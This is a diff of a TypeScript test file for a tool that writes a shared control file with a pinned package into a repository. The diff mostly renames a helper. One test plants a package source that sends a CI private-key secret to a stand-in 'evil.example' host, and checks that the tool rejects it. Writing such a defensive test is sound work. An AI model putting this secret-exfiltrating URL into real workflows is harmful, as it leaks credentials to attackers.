@@ -17,8 +17,8 @@ const package_ = { "control-cli": somePin.source, "control-integrity": ` ${someP
 const yes = { "control-file": "write" };
 
 /** A control repository that has this file, or none. */
-function openPlace(before?: string) {
-  const place = { text: before, reads: 0, writes: 0, refusals: 0 };
+function openLocation(before?: string) {
+  const location = { text: before, reads: 0, writes: 0, refusals: 0 };
   const offer = (
     options: StepOptions = {},
     chosen: Chosen = "app",
@@ -32,16 +32,16 @@ function openPlace(before?: string) {
             profile,
             repository,
             readControlFile: () => {
-              place.reads += 1;
-              return Promise.resolve(place.text);
+              location.reads += 1;
+              return Promise.resolve(location.text);
             },
             writeControlFile: (text) => {
-              place.writes += 1;
-              if (place.writes <= place.refusals) {
+              location.writes += 1;
+              if (location.writes <= location.refusals) {
                 const request = "PUT /repos/acme/control/contents/x";
                 throw new RefusedByForge({ status: 409, request, message: "protected" });
               }
-              place.text = text;
+              location.text = text;
               return Promise.resolve();
             },
           },
@@ -49,7 +49,7 @@ function openPlace(before?: string) {
         ),
       options,
     );
-  return Object.assign(place, { offer });
+  return Object.assign(location, { offer });
 }
 
 const rendered = (chosen: Chosen = "app", settings: Settings = someSettings) =>
@@ -57,8 +57,8 @@ const rendered = (chosen: Chosen = "app", settings: Settings = someSettings) =>
 
 describe("the shared control file is offered", () => {
   test("with what is written and why; answers without it, as Enter, leave it for later", async () => {
-    const place = openPlace();
-    const { result, marks, questions, asked } = await place.offer();
+    const location = openLocation();
+    const { result, marks, questions, asked } = await location.offer();
     expect(result).toBe("later");
     expect(asked).toEqual(["control-file"]);
     expect(questions["control-file"]).toMatchObject({ initial: "later" });
@@ -72,63 +72,63 @@ describe("the shared control file is offered", () => {
     ]);
     expect(marks).toEqual([{ name: "Control file", state: "skipped", summary: "postponed" }]);
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
-    expect(place.writes).toBe(0);
+    expect(location.writes).toBe(0);
   });
 
   test("and written for the chosen profile, with the package that is named", async () => {
-    const place = openPlace();
-    const { result, marks, asked, questions } = await place.offer(
+    const location = openLocation();
+    const { result, marks, asked, questions } = await location.offer(
       { answers: { ...yes, ...package_ } },
       "pat",
     );
     expect(result).toBe("written");
     expect(asked).toEqual(["control-file", "control-cli", "control-integrity"]);
-    expect(place.text).toBe(rendered("pat"));
+    expect(location.text).toBe(rendered("pat"));
     expect(marks).toMatchObject([{ state: "done" }]);
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
   });
 
   test("not where it is as it has to be, whoever wrote it", async () => {
-    const place = openPlace(rendered());
-    expect(await place.offer({ answers: yes })).toMatchObject({
+    const location = openLocation(rendered());
+    expect(await location.offer({ answers: yes })).toMatchObject({
       result: "unchanged",
       asked: [],
       marks: [{ name: "Control file", state: "done", summary: "up to date" }],
     });
-    expect(place.writes).toBe(0);
+    expect(location.writes).toBe(0);
   });
 
   test("with the lines that change where it is for another profile; the package stays", async () => {
-    const place = openPlace(rendered("workflow-token"));
-    const { result, questions, asked } = await place.offer({ answers: yes });
+    const location = openLocation(rendered("workflow-token"));
+    const { result, questions, asked } = await location.offer({ answers: yes });
     expect(result).toBe("written");
     expect(asked).toEqual(["control-file"]);
     const { body = [] } = questions["control-file"] ?? {};
     expect(body).toContain("- # Profile: workflow-token. Inference uses only the workflow token.");
     expect(body.filter((line) => /^[-+] /.test(line))).toHaveLength(body.length - 1);
-    expect(place.text).toBe(rendered());
+    expect(location.text).toBe(rendered());
   });
 
   test("whole where what is there is none of ours", async () => {
-    const place = openPlace("Something else.\n");
-    const { questions } = await place.offer({ answers: { ...yes, ...package_ } });
+    const location = openLocation("Something else.\n");
+    const { questions } = await location.offer({ answers: { ...yes, ...package_ } });
     expect(questions["control-file"]?.body).toEqual([
       "The current file does not specify a valid gatehouse package. It will be replaced completely.",
     ]);
-    expect(place.text).toBe(rendered());
+    expect(location.text).toBe(rendered());
   });
 });
 
 test("a package that no run may bring is none: it is asked for, and what is there replaced", async () => {
   const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
-  const place = openPlace(rendered().replaceAll(somePin.source, evil));
-  const { asked } = await place.offer({ answers: { ...yes, ...package_ } });
+  const location = openLocation(rendered().replaceAll(somePin.source, evil));
+  const { asked } = await location.offer({ answers: { ...yes, ...package_ } });
   expect(asked).toEqual(["control-file", "control-cli", "control-integrity"]);
-  expect(place.text).toBe(rendered());
+  expect(location.text).toBe(rendered());
 });
 
 test("the package that is kept is shown", async () => {
-  const { questions } = await openPlace(rendered("workflow-token")).offer({ answers: yes });
+  const { questions } = await openLocation(rendered("workflow-token")).offer({ answers: yes });
   expect(questions["control-file"]?.facts).toContainEqual({
     name: "Package",
     text: somePin.source,
@@ -137,35 +137,35 @@ test("the package that is kept is shown", async () => {
 
 describe("what was answered", () => {
   test("with a yes is for one write: what somebody takes back is asked about again", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
-    expect(await place.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
+    expect(await location.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
       result: "written",
     });
-    place.text = undefined;
-    expect(await place.offer({ journal })).toMatchObject({
+    location.text = undefined;
+    expect(await location.offer({ journal })).toMatchObject({
       result: "later",
       asked: ["control-file"],
     });
-    expect(place.writes).toBe(1);
+    expect(location.writes).toBe(1);
   });
 
   test("with a no is not asked again by a run whose other answers are forgotten, unless that asks again", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
-    await place.offer({ journal });
+    await location.offer({ journal });
     await journal.setAnswers([]);
-    const rerun = await place.offer({ journal });
+    const rerun = await location.offer({ journal });
     expect(rerun).toMatchObject({ result: "later", asked: [] });
     expect(rerun.marks).toMatchObject([{ state: "skipped" }]);
     await forgetDeclined(journal, { profile, repository });
-    expect(await place.offer({ journal })).toMatchObject({ asked: ["control-file"] });
+    expect(await location.offer({ journal })).toMatchObject({ asked: ["control-file"] });
   });
 
   test("can be taken back in the run that answered it", async () => {
-    const place = openPlace();
+    const location = openLocation();
     let isBack = false;
-    const { asked, result } = await place.offer({
+    const { asked, result } = await location.offer({
       answers: { ...yes, ...package_ },
       onQuestion: (id) => {
         if (id !== "control-cli" || isBack) return;
@@ -184,14 +184,14 @@ describe("what was answered", () => {
   });
 
   test("holds for a rerun, and no longer once the profile is another one", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
-    await place.offer({ journal });
-    expect(await place.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
+    await location.offer({ journal });
+    expect(await location.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
       result: "later",
       asked: [],
     });
-    const changed = await place.offer({ journal, answers: { ...yes, ...package_ } }, "pat");
+    const changed = await location.offer({ journal, answers: { ...yes, ...package_ } }, "pat");
     expect(changed).toMatchObject({
       result: "written",
       asked: ["control-file", "control-cli", "control-integrity"],
@@ -199,58 +199,58 @@ describe("what was answered", () => {
   });
 
   test("with a yes is none to a file that somebody changed since", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
-    await place.offer({ journal, answers: { ...yes, ...package_ } });
-    place.text = rendered().replace("ignore-if-missing: true", "ignore-if-missing: false");
-    const changed = place.text;
-    expect(await place.offer({ journal })).toMatchObject({
+    await location.offer({ journal, answers: { ...yes, ...package_ } });
+    location.text = rendered().replace("ignore-if-missing: true", "ignore-if-missing: false");
+    const changed = location.text;
+    expect(await location.offer({ journal })).toMatchObject({
       result: "later",
       asked: ["control-file"],
     });
-    expect(place.text).toBe(changed);
+    expect(location.text).toBe(changed);
   });
 
   test("with a yes is done by a rerun where the forge took no commit, and not asked for again", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
-    place.refusals = 1;
-    const stopped = await place.offer({ journal, answers: { ...yes, ...package_ } });
+    location.refusals = 1;
+    const stopped = await location.offer({ journal, answers: { ...yes, ...package_ } });
     expect(stopped.error?.message).toContain("protected");
-    expect(place.text).toBeUndefined();
-    expect(await place.offer({ journal })).toMatchObject({ result: "written", asked: [] });
+    expect(location.text).toBeUndefined();
+    expect(await location.offer({ journal })).toMatchObject({ result: "written", asked: [] });
     // The run after that finds its own work.
-    expect(await place.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
-    expect(place.writes).toBe(2);
+    expect(await location.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
+    expect(location.writes).toBe(2);
   });
 
   test("with a yes, and stopped while it is written, is found by a rerun", async () => {
-    const place = openPlace();
+    const location = openLocation();
     const journal = startJournal();
     const answers = { ...yes, ...package_ };
-    const stopped = await place.offer({ journal, answers, stopDuring: "control-file-write" });
+    const stopped = await location.offer({ journal, answers, stopDuring: "control-file-write" });
     expect(stopped.error).toBeDefined();
-    expect(await place.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
-    expect(place.writes).toBe(1);
+    expect(await location.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
+    expect(location.writes).toBe(1);
   });
 });
 
 test("a forge that takes no commit ends nothing: the file is left for later", async () => {
-  const place = openPlace();
-  place.refusals = 1;
+  const location = openLocation();
+  location.refusals = 1;
   const answers = { ...yes, ...package_, "failure:control-file-write": "later" };
-  const { result, asked } = await place.offer({ answers });
+  const { result, asked } = await location.offer({ answers });
   expect(result).toBe("later");
   expect(asked.filter((id) => id === "control-file-write")).toHaveLength(1);
-  expect(place.writes).toBe(1);
+  expect(location.writes).toBe(1);
 });
 
 test.each([
   ["control-cli", "http://example.com/a.tgz"],
   ["control-integrity", "sha1-abc"],
 ])("what a run could not rely on is not taken: %s %s", async (id, answer) => {
-  const place = openPlace();
-  const { error } = await place.offer({ answers: { ...yes, ...package_, [id]: answer } });
+  const location = openLocation();
+  const { error } = await location.offer({ answers: { ...yes, ...package_, [id]: answer } });
   expect(error?.message).toContain(answer);
-  expect(place.writes).toBe(0);
+  expect(location.writes).toBe(0);
 });
